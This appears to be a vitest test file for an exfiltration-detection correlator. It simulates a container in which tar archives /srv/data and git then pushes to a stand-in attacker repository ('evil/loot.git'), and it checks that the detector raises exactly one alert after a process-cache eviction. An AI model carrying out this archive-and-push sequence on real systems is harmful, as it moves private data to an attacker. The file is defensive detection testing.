/**
 * The per-container last-process cache (ProcessTable.procOf) returns only what the process table would:
 * a process evicted from the table starts afresh on its next event, as it did before the cache.
 */
import { describe, expect, it } from 'vitest';
import { counterValue, MiB, makeCorrelator, Scenario } from './builder.js';

describe.each(['tetragon', 'falco'] as const)('process cache (%s)', (source) => {
  it('an archiver evicted between its reads counts its files afresh (no archive staging from the two halves)', async () => {
    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxProcesses: 4 } } });
    const s = new Scenario({ source });
    const c = s.container();
    const sh = s.init(c);
    const tar = s.exec(c, '/bin/tar', 'czf /tmp/out.tgz /srv/data', { parent: sh });
    s.readMany(tar, '/srv/data/a', 15, 4096, 5);
    // Short-lived execs fill the table and push the (now cold) tar out.
    for (let i = 0; i < 12; i++) {
      s.exec(c, '/bin/true', '', { parent: sh });
      s.wait(5);
    }
    s.readMany(tar, '/srv/data/b', 10, 4096, 5).wait(30_000);
    const url = 'https://github.com/evil/loot.git';
    const git = s.exec(c, '/usr/bin/git', `push ${url} main`, { parent: sh });
    const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', `${url} ${url}`, { parent: git });
    s.connect(helper, '140.82.112.3', 443).send(helper, '140.82.112.3', 443, MiB);
    const alerts = [...correlator.ingest(s.events), ...correlator.flush()];
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'process' })).toBeGreaterThan(0);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!.reads.files).toBe(25);
    expect(alerts[0]!.evidence.filter((e) => e.kind === 'archive')).toEqual([]);
  });
});
